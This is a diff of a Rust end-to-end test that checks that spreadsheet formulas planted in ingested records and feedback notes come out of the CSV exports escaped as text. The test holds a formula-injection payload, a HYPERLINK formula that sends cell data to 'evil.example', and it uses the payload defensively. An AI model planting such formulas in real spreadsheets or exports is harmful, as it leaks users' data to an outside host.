@@ -4,7 +4,7 @@
 use bfp_common::wire::CONTENT_TYPE;
 use bfp_e2e::agent::temp_dir;
 use bfp_e2e::forward::{device_add, post_auth, sample_batch};
-use bfp_e2e::{get, post_json, Collector};
+use bfp_e2e::{get, Collector};
 use serde_json::json;
 
 const PLANTED: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
@@ -31,7 +31,7 @@ fn planted_formulas_export_as_text() {
     let r = post_auth(&c.url("/api/ingest"), Some(&token), CONTENT_TYPE, &batch.encode().unwrap());
     assert_eq!(r.status, 200, "{}", r.body);
 
-    let export = get(&c.url("/api/export.csv")).body;
+    let export = c.get("/api/export.csv").body;
     let row = cells(&export, "HYPERLINK");
     let reasons = row.iter().find(|cell| cell.contains("HYPERLINK")).unwrap();
     assert_eq!(reasons, &format!("'{PLANTED}"), "{export}");
@@ -39,10 +39,9 @@ fn planted_formulas_export_as_text() {
 
     let id = get(&c.url("/api/results?limit=1")).json()["results"][0]["id"].as_i64().unwrap();
     let note = format!("-1+{PLANTED}");
-    let r =
-        post_json(&c.url(&format!("/api/results/{id}/feedback")), &json!({"label": "false_positive", "note": note}));
+    let r = c.post_json(&format!("/api/results/{id}/feedback"), &json!({"label": "false_positive", "note": note}));
     assert_eq!(r.status, 200, "{}", r.body);
-    let labelled = get(&c.url("/api/export/labelled.csv")).body;
+    let labelled = c.get("/api/export/labelled.csv").body;
     let row = cells(&labelled, "HYPERLINK");
     assert_eq!(row.last().unwrap(), &format!("'{note}"), "{labelled}");
 }
